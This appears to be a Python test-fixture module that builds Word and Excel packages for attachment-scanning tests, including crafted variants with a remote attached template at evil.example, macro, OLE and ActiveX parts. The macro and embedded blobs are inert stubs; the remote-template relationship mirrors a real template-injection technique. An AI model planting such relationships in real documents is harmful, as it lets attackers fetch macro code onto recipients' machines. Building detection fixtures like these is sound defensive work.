"""Office Open XML packages and text files built for the attachment tests: a real workbook written by openpyxl,
and small word-processing packages written part by part, with the macros and remote links a crafted file
carries."""

from __future__ import annotations

import io
import zipfile

from openpyxl import Workbook

DOCX_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
PACKAGE_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'officeDocument" Target="word/document.xml"/></Relationships>'
)
DOCUMENT = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>Delivery plan, week 50</w:t></w:r></w:p></w:body></w:document>"
)


def relationships(*entries: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(entries)
        + "</Relationships>"
    ).encode()


def package(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def docx(extra: dict[str, bytes] | None = None) -> bytes:
    """A word-processing document, with the parts ``extra`` adds or replaces."""
    parts = {"[Content_Types].xml": DOCX_CONTENT_TYPES, "_rels/.rels": PACKAGE_RELS, "word/document.xml": DOCUMENT}
    return package(parts | (extra or {}))


def xlsx() -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["line", "quantity", "date"])
    sheet.append([1, 60, "2026-12-01"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def with_parts(data: bytes, parts: dict[str, bytes]) -> bytes:
    """The package ``data`` with ``parts`` added or replaced."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        kept = {name: archive.read(name) for name in archive.namelist() if name not in parts}
    return package(kept | parts)


DOCX = docx()
XLSX = xlsx()
HYPERLINKED_DOCX = docx(
    {
        "word/_rels/document.xml.rels": relationships(
            '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'hyperlink" Target="https://supplier.example/specs" TargetMode="External"/>'
        )
    }
)
REMOTE_TEMPLATE_DOCX = docx(
    {
        "word/_rels/settings.xml.rels": relationships(
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
        )
    }
)
MACRO_XLSX = with_parts(XLSX, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"})
MACRO_TYPES_DOCX = docx(
    {"[Content_Types].xml": DOCX_CONTENT_TYPES.replace(b"document.main+xml", b"document.macroEnabled.main+xml")}
)
OLE_DOCX = docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 package"})
ACTIVEX_DOCX = docx({"word/activeX/activeX1.xml": b"<ax:ocx/>"})
